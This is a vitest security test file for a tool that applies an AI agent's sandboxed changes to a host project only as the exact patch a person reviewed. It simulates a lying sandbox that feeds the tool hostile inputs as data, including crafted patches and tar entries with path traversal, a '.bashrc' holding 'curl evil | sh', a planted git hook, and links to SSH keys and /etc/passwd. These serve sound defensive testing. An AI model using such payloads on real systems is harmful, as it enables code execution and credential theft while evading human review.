import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, readlinkSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { classifyRisky } from '../runs/run-apply';
import { applyResult } from './apply';
import { sectionsOf, selectChanges, type ResultChange } from './collect';
import { LocalShell } from './local-shell';
import { craftTar } from '../../test/support/crafted-tar';
import { cleanupTemps, collectLocal, git, gitRepo, localSandbox, tempDir, type LocalResult, type LocalSandbox } from '../../test/support/workspace-fixtures';
import type { ShellRunOptions, ShellRunResult } from './workspace-shell';
import { sha256Hex } from '../common/sha256';

afterAll(cleanupTemps);

/**
 * A sandbox whose helper lies: every command the host asks for runs for real (LocalShell), then
 * its output is replaced by what the attacker wants the host to see.
 */
class LyingShell extends LocalShell {
  constructor(private readonly lies: { gitDiff?: (real: Buffer) => Buffer; tar?: (real: Buffer, asked: string[]) => Buffer; listing?: (real: Buffer) => Buffer }) {
    super(process.env);
  }

  override async run(opts: ShellRunOptions): Promise<ShellRunResult> {
    const r = await super.run(opts);
    const joined = opts.argv.join(' ');
    if (opts.argv[0] === 'tar' && this.lies.tar) return { ...r, stdout: this.lies.tar(r.stdout, String(opts.stdin).split('\0').filter(Boolean)) };
    if (/\bdiff\b/.test(joined) && /--name-only|--raw/.test(joined) && this.lies.gitDiff) return { ...r, stdout: this.lies.gitDiff(r.stdout) };
    if (/find \./.test(joined) && this.lies.listing) return { ...r, stdout: this.lies.listing(r.stdout) };
    return r;
  }
}

async function lyingSandbox(projectDir: string, lies: ConstructorParameters<typeof LyingShell>[0]): Promise<LocalSandbox> {
  const sb = await localSandbox(projectDir);
  return { ...sb, shell: new LyingShell(lies) };
}

function everyFile(root: string, rel = ''): Map<string, string> {
  const out = new Map<string, string>();
  for (const n of readdirSync(path.join(root, rel)).sort()) {
    const r = rel ? `${rel}/${n}` : n;
    if (!rel && n === '.git') continue;
    const st = lstatSync(path.join(root, r));
    if (st.isDirectory()) for (const [k, v] of everyFile(root, r)) out.set(k, v);
    else out.set(r, st.isSymbolicLink() ? `link:${readlinkSync(path.join(root, r))}` : `${st.mode & 0o100 ? 'x' : '-'}:${readFileSync(path.join(root, r)).toString('base64')}`);
  }
  return out;
}

/** A fresh copy of the project at its start commit: the base the reviewed patch applies to. */
function cloneAtStart(projectDir: string): string {
  const dir = tempDir('airlock-clone-');
  git(dir, ['clone', '-q', projectDir, '.']);
  return dir;
}

/** Puts a clone back to the run's start commit, nothing else in it. */
function resetTo(dir: string, commit: string): void {
  git(dir, ['checkout', '-q', '-f', '--detach', commit]);
  git(dir, ['clean', '-qfdx']);
}

/**
 * The oracle: the base with exactly the reviewed bytes applied by stock `git apply`. Apply must
 * produce the same tree, byte for byte, in both modes and for every selection.
 */
function expectAppliedEqualsReviewed(r: LocalResult, selection: ResultChange[], oracle: string, applied: { dir?: string; branchOf?: { repo: string; branch: string } }) {
  resetTo(oracle, r.result.headCommit as string);
  const reviewedPatch = sectionsOf(r.patch, selection);
  if (reviewedPatch.length) execFileSync('git', ['apply', '--binary', '-'], { cwd: oracle, input: reviewedPatch });
  if (applied.dir) {
    expect(everyFile(applied.dir)).toEqual(everyFile(oracle));
  } else {
    const { repo, branch } = applied.branchOf as { repo: string; branch: string };
    git(oracle, ['add', '-A']);
    expect(git(repo, ['rev-parse', `${branch}^{tree}`]).trim()).toBe(git(oracle, ['write-tree']).trim());
  }
}

describe('a lying sandbox cannot get unreviewed bytes into the project', () => {
  it('attack 1: a crafted patch (diff --git vs +++ names, symlink section) is never used; a host file never lands in the project', async () => {
    const hostSecret = tempDir('airlock-host-home-');
    writeFileSync(path.join(hostSecret, 'hosts.yml'), 'oauth_token: gho_SECRET_FROM_THE_HOST\n');
    const project = gitRepo({ 'decoy': 'decoy\n', 'README.md': 'readme\n' });
    const crafted = Buffer.from(
      [
        `diff --git a/s b/s`,
        'new file mode 120000',
        '--- /dev/null',
        '+++ b/s',
        '@@ -0,0 +1 @@',
        `+${hostSecret}`,
        '\\ No newline at end of file',
        'diff --git a/decoy b/decoy',
        '--- a/decoy',
        '+++ b/x/s/hosts.yml',
        '@@ -1 +1 @@',
        '-decoy',
        '+decoy',
        '',
      ].join('\n'),
    );
    // The helper answers every git question with the crafted patch; the agent really made `s` a symlink out.
    const sb = await lyingSandbox(project, { gitDiff: () => Buffer.concat([crafted, Buffer.from('\0decoy\0s\0x/s/hosts.yml\0')]) });
    symlinkSync(hostSecret, sb.at('s'));
    writeFileSync(sb.at('decoy'), 'decoy changed\n');
    const r = await collectLocal(sb);
    expect(r.result.changes.map((c) => `${c.status} ${c.path}`)).toEqual(['modified decoy', 'added s']);
    expect(r.patch.toString()).not.toContain('hosts.yml');
    const risky = new Map(classifyRisky(r.result.changes, r.patch).map((f) => [f.path, f.reason]));
    expect(risky.get('s')).toMatch(/symlink pointing outside the project/);

    const out = await applyResult({ projectDir: project, repo: r.repo, result: r.result, patch: r.patch, reviewedSha256: r.result.patchSha256, mode: 'working-tree' });
    expect(out.applied.sort()).toEqual(['decoy', 's']);
    expect(lstatSync(path.join(project, 's')).isSymbolicLink()).toBe(true);
    const everything = [...everyFile(project).values()].map((v) => Buffer.from(v.slice(2), 'base64').toString()).join('\n');
    expect(everything).not.toContain('gho_SECRET_FROM_THE_HOST');
    expect(existsSync(path.join(project, 'x'))).toBe(false);
  });

  it('attack 2: a false file list and claimed modes change nothing: the host lists what it read, flags +x and symlinks, and applies only what it listed', async () => {
    const project = gitRepo({ 'README.md': 'readme\n', 'tool.sh': 'echo hi\n', 'conf.json': '{}\n' });
    // The helper claims only "README.md" changed, whatever its git says.
    const gitLie = (): Buffer => Buffer.from('README.md\0');
    const sb = await lyingSandbox(project, { gitDiff: gitLie });
    renameSync(sb.at('README.md'), sb.at('.envrc'));
    chmodSync(sb.at('tool.sh'), 0o755);
    unlinkSync(sb.at('conf.json'));
    symlinkSync('/etc/passwd', sb.at('conf.json'));
    // The stat listing still shows the new .envrc: the host lists the rename it read, flagged.
    const seen = await collectLocal(sb);
    expect(seen.result.changes.map((c) => `${c.status} ${c.path}`)).toEqual(['renamed .envrc', 'modified conf.json', 'modified tool.sh']);
    expect(classifyRisky(seen.result.changes, seen.patch).find((f) => f.path === '.envrc')?.reason).toMatch(/direnv/);
    // Hidden from every hint (git and the stat listing lie), .envrc is not in the result at all,
    // so it can never be applied unseen.
    const hiding = new LyingShell({ gitDiff: gitLie, listing: (real) => Buffer.from(real.toString('utf8').split('\0').filter((rec) => !rec.endsWith(' .envrc')).join('\0')) });
    const r = await collectLocal({ ...sb, shell: hiding });
    expect(r.result.changes.map((c) => `${c.status} ${c.path}`)).toEqual(['deleted README.md', 'modified conf.json', 'modified tool.sh']);
    const byPath = new Map(r.result.changes.map((c) => [c.path, c]));
    expect(byPath.get('tool.sh')).toMatchObject({ oldMode: '100644', newMode: '100755', modeChanged: true });
    expect(byPath.get('conf.json')).toMatchObject({ newMode: '120000' });
    const risky = new Map(classifyRisky(r.result.changes, r.patch).map((f) => [f.path, f.reason]));
    expect(risky.get('tool.sh')).toMatch(/made executable/);
    expect(risky.get('conf.json')).toMatch(/now a symlink.*symlink pointing outside the project/);

    // Selecting README.md applies README.md's listed change (its deletion) and nothing else.
    const clone = cloneAtStart(project);
    const one = await applyResult({ projectDir: clone, repo: r.repo, result: r.result, patch: r.patch, reviewedSha256: r.result.patchSha256, files: ['README.md'], mode: 'working-tree' });
    expect(one.applied).toEqual(['README.md']);
    expect(existsSync(path.join(clone, '.envrc'))).toBe(false);
    expectAppliedEqualsReviewed(r, selectChanges(r.result, ['README.md']), cloneAtStart(project), { dir: clone });
    // Without a selection, exactly the listed changes.
    const all = await applyResult({ projectDir: project, repo: r.repo, result: r.result, patch: r.patch, reviewedSha256: r.result.patchSha256, mode: 'working-tree' });
    expect(all.applied.sort()).toEqual(['README.md', 'conf.json', 'tool.sh']);
    expect(existsSync(path.join(project, '.envrc'))).toBe(false);
  });

  it('a lying archive (paths it was not asked for, traversal, a device, a hard link to a host path) adds nothing', async () => {
    const project = gitRepo({ 'a.txt': 'a\n', 'b.txt': 'b\n' });
    const lie = ['a.txt', 'b.txt', '../../.bashrc', '.git/hooks/pre-commit', 'dir\\evil.txt'];
    const sb = await lyingSandbox(project, {
      gitDiff: () => Buffer.from(lie.map((p) => `${p}\0`).join('')),
      listing: (real) => Buffer.concat([real, Buffer.from(lie.map((p) => `f 644 1 0 ${p}\0`).join(''))]),
      tar: () =>
        craftTar([
          { name: 'a.txt', body: 'agent a\n' },
          { name: '../../.bashrc', body: 'curl evil | sh\n' },
          { name: '.git/hooks/pre-commit', body: 'evil\n', mode: 0o755 },
          { name: 'b.txt', type: '1', linkname: '/home/u/.ssh/id_rsa' },
          { name: 'c.txt', type: '3' },
        ]),
    });
    const r = await collectLocal(sb);
    expect(r.result.changes.map((c) => `${c.status} ${c.path}`)).toEqual(['modified a.txt']);
    expect(r.result.skipped.map((s) => s.path)).toEqual(expect.arrayContaining(['../../.bashrc', '.git/hooks/pre-commit', 'dir\\evil.txt', 'b.txt']));
  });

  it('a name hinted below a symlinked folder is never read through it', async () => {
    const project = gitRepo({ 'a.txt': 'a\n' });
    const sb = await localSandbox(project);
    const outside = tempDir('airlock-sandbox-etc-');
    writeFileSync(path.join(outside, 'passwd'), 'root:x:0:0\n');
    symlinkSync(outside, sb.at('lnk'));
    // The live feed (or a lying helper) names lnk/passwd; the listing never descends into a link.
    const r = await collectLocal(sb, { hints: ['lnk/passwd'] });
    expect(r.result.changes.map((c) => `${c.status} ${c.path} ${c.newMode}`)).toEqual(['added lnk 120000']);
    expect(r.result.skipped).toContainEqual({ path: 'lnk/passwd', reason: 'inside a symlinked folder' });
    expect(r.patch.toString()).not.toContain('root:x');
  });

  it('a malformed archive fails the collect with a clear error and writes nothing', async () => {
    const project = gitRepo({ 'a.txt': 'a\n' });
    const sb = await lyingSandbox(project, { tar: () => craftTar([{ name: 'a.txt', body: 'x' }, { name: 'a.txt', body: 'y' }]) });
    writeFileSync(sb.at('a.txt'), 'changed\n');
    await expect(collectLocal(sb)).rejects.toMatchObject({ kind: 'SANDBOX_FAILED', message: expect.stringMatching(/appears twice.*nothing from it is used/) });
  });

  it('refuses names that fold together (case, NFC/NFD) with each other or with the project, and flags them for review', async () => {
    const nfc = 'caf\u00e9.txt';
    const nfd = 'cafe\u0301.txt';
    const project = gitRepo({ 'README.md': 'readme\n', [nfc]: 'nfc\n' });
    const sb = await localSandbox(project);
    writeFileSync(sb.at('readme.md'), 'shadow\n');
    writeFileSync(sb.at(nfd), 'nfd\n');
    mkdirSync(sb.at('D'));
    writeFileSync(sb.at('D/x'), 'upper\n');
    mkdirSync(sb.at('d'));
    writeFileSync(sb.at('d/y'), 'lower\n');
    writeFileSync(sb.at('fresh.txt'), 'fine\n');
    const r = await collectLocal(sb);
    const risky = new Map(classifyRisky(r.result.changes, r.patch).map((f) => [f.path, f.reason]));
    for (const p of ['readme.md', nfd, 'D/x', 'd/y']) expect(risky.get(p)).toMatch(/name clash/);
    expect(risky.has('fresh.txt')).toBe(false);
    // The user meanwhile adds DATA.txt; a result's data.txt would land on it on macOS/Windows.
    writeFileSync(path.join(project, 'Fresh.TXT'), 'user\n');
    const out = await applyResult({ projectDir: project, repo: r.repo, result: r.result, patch: r.patch, reviewedSha256: r.result.patchSha256, mode: 'working-tree' });
    expect(out.applied).toEqual([]);
    expect(out.conflicts.map((c) => c.path).sort()).toEqual(['D/x', nfd, 'd/y', 'fresh.txt', 'readme.md'].sort());
    expect(existsSync(path.join(project, 'readme.md'))).toBe(false);
    expect(existsSync(path.join(project, 'D'))).toBe(false);
    // Branch mode: the same rules against the branch's tree.
    const branch = await applyResult({ projectDir: project, repo: r.repo, result: r.result, patch: r.patch, reviewedSha256: r.result.patchSha256, mode: 'branch', branch: 'airlock/fold', skipConflicts: true });
    expect(branch.applied).toEqual(['fresh.txt']);
  });

  it('never writes through a folder that resolves outside the project (symlinked folder escape)', async () => {
    const outside = tempDir('airlock-outside-');
    const project = gitRepo({ 'a.txt': 'a\n' });
    const sb = await localSandbox(project);
    // The result makes `D` a symlink out and writes `d/x`: on a case-insensitive disk `d/x` is `D/x`.
    symlinkSync(outside, sb.at('D'));
    mkdirSync(sb.at('d'));
    writeFileSync(sb.at('d/x'), 'escaped\n');
    const r = await collectLocal(sb);
    const out = await applyResult({ projectDir: project, repo: r.repo, result: r.result, patch: r.patch, reviewedSha256: r.result.patchSha256, mode: 'working-tree' });
    expect(out.applied).toEqual([]);
    expect(readdirSync(outside)).toEqual([]);
    // The user's own symlinked folder is never written through either.
    const sb2 = await localSandbox(project);
    mkdirSync(sb2.at('data'));
    writeFileSync(sb2.at('data/out.txt'), 'agent\n');
    const r2 = await collectLocal(sb2);
    symlinkSync(outside, path.join(project, 'data'));
    const out2 = await applyResult({ projectDir: project, repo: r2.repo, result: r2.result, patch: r2.patch, reviewedSha256: r2.result.patchSha256, mode: 'working-tree' });
    expect(out2.conflicts).toEqual([{ path: 'data/out.txt', reason: expect.stringMatching(/symlink/) }]);
    expect(readdirSync(outside)).toEqual([]);
  });

  it('new files the listing finds honour the project rules read on the host and the workspace .gitignore (a venv stays out)', async () => {
    const project = gitRepo({ 'a.txt': 'a\n', '.gitignore': 'dist/\n' });
    // The sandbox's git tracking says nothing changed (a rewritten baseline would do the same).
    const sb = await lyingSandbox(project, { gitDiff: () => Buffer.alloc(0) });
    mkdirSync(sb.at('.venv/lib'), { recursive: true });
    writeFileSync(sb.at('.venv/.gitignore'), '*\n');
    writeFileSync(sb.at('.venv/lib/site.py'), 'x\n');
    mkdirSync(sb.at('dist'));
    writeFileSync(sb.at('dist/bundle.js'), 'x\n');
    writeFileSync(sb.at('src.ts'), 'new\n');
    const r = await collectLocal(sb);
    expect(r.result.changes.map((c) => `${c.status} ${c.path}`)).toEqual(['added src.ts']);
  });

  it('still sees edits to a dependency folder the project itself carries, and never a new one', async () => {
    const project = gitRepo({ 'node_modules/dep/index.js': 'v1\n', 'a.txt': 'a\n' });
    const sb = await localSandbox(project);
    writeFileSync(sb.at('node_modules/dep/index.js'), 'v2\n');
    mkdirSync(sb.at('node_modules/other'));
    writeFileSync(sb.at('node_modules/other/index.js'), 'installed\n');
    const r = await collectLocal(sb);
    expect(r.result.changes.map((c) => `${c.status} ${c.path}`)).toEqual(['modified node_modules/dep/index.js']);
  });

  it('leaves names with a backslash (a Windows separator) out of the result', async () => {
    const project = gitRepo({ 'a.txt': 'a\n' });
    const sb = await localSandbox(project);
    writeFileSync(sb.at('..\\..\\evil.txt'), 'x\n');
    writeFileSync(sb.at('dir\\file.txt'), 'x\n');
    writeFileSync(sb.at('ok.txt'), 'ok\n');
    const r = await collectLocal(sb);
    expect(r.result.changes.map((c) => c.path)).toEqual(['ok.txt']);
    expect(r.result.skipped).toEqual(expect.arrayContaining([expect.objectContaining({ path: 'dir\\file.txt', reason: expect.stringMatching(/backslash/) })]));
  });

  it('refuses a digest that is not the reviewed patch, before touching the project', async () => {
    const project = gitRepo({ 'a.txt': 'a\n', 'b.txt': 'b\n' });
    const sb = await localSandbox(project);
    writeFileSync(sb.at('a.txt'), 'A\n');
    writeFileSync(sb.at('b.txt'), 'B\n');
    const r = await collectLocal(sb);
    const base = { projectDir: project, repo: r.repo, result: r.result, patch: r.patch, mode: 'working-tree' as const };
    await expect(applyResult({ ...base, reviewedSha256: 'f'.repeat(64) })).rejects.toMatchObject({ kind: 'CONFLICT' });
    // The digest of a.txt's part does not let b.txt in.
    const aOnly = selectChanges(r.result, ['a.txt'])[0]!.section.sha256;
    await expect(applyResult({ ...base, reviewedSha256: aOnly })).rejects.toMatchObject({ kind: 'CONFLICT' });
    // A stored patch altered after review is refused too.
    const altered = Buffer.from(r.patch.toString().replace('+A', '+Z'));
    await expect(applyResult({ ...base, patch: altered, reviewedSha256: r.result.patchSha256 })).rejects.toMatchObject({ kind: 'INTERNAL' });
    expect(readFileSync(path.join(project, 'a.txt'), 'utf8')).toBe('a\n');
    const ok = await applyResult({ ...base, files: ['a.txt'], reviewedSha256: aOnly });
    expect(ok.applied).toEqual(['a.txt']);
  });
});

describe('review and apply agree byte for byte', () => {
  it('for every selection, in working-tree and branch mode, the applied tree is the base plus the reviewed patch', async () => {
    const BIN = Buffer.from([0, 1, 2, 0, 255]);
    const project = gitRepo({
      'src/app.ts': 'one\ntwo\nthree\n',
      'src/old-name.ts': 'export function moved() {\n  return 42;\n}\n// padding for rename detection\n',
      'bin/tool.sh': '#!/bin/sh\necho tool\n',
      'img/pic.bin': BIN,
      'docs/gone.md': 'bye\n',
      'link': { symlink: 'src/app.ts' },
    });
    const sb = await localSandbox(project);
    writeFileSync(sb.at('src/app.ts'), 'one\nTWO\nthree\n');
    renameSync(sb.at('src/old-name.ts'), sb.at('src/new-name.ts'));
    chmodSync(sb.at('bin/tool.sh'), 0o755);
    writeFileSync(sb.at('img/pic.bin'), Buffer.concat([BIN, Buffer.from([7])]));
    unlinkSync(sb.at('docs/gone.md'));
    unlinkSync(sb.at('link'));
    writeFileSync(sb.at('link'), 'now a file\n');
    writeFileSync(sb.at('added.txt'), 'added\n');
    const r = await collectLocal(sb);
    const labels = r.result.changes.map((c) => c.path);
    expect(labels.sort()).toEqual(['added.txt', 'bin/tool.sh', 'docs/gone.md', 'img/pic.bin', 'link', 'src/app.ts', 'src/new-name.ts']);
    const n = labels.length;
    const br = cloneAtStart(project);
    const wt = cloneAtStart(project);
    const oracle = cloneAtStart(project);
    for (let mask = 1; mask < 1 << n; mask++) {
      const files = labels.filter((_, i) => mask & (1 << i));
      const selection = selectChanges(r.result, files);
      const reviewedSha256 = sha256Hex(sectionsOf(r.patch, selection));
      resetTo(wt, r.result.headCommit as string);
      const out = await applyResult({ projectDir: wt, repo: r.repo, result: r.result, patch: r.patch, files, reviewedSha256, mode: 'working-tree' });
      expect(out.conflicts).toEqual([]);
      expectAppliedEqualsReviewed(r, selection, oracle, { dir: wt });
      const branch = `airlock/sel-${mask}`;
      await applyResult({ projectDir: br, repo: r.repo, result: r.result, patch: r.patch, files, reviewedSha256, mode: 'branch', branch });
      expectAppliedEqualsReviewed(r, selection, oracle, { branchOf: { repo: br, branch } });
    }
    // 127 selections × 2 modes of real git: generous, as a loaded 2-core machine needs (no timing is asserted).
  }, 900_000);
});
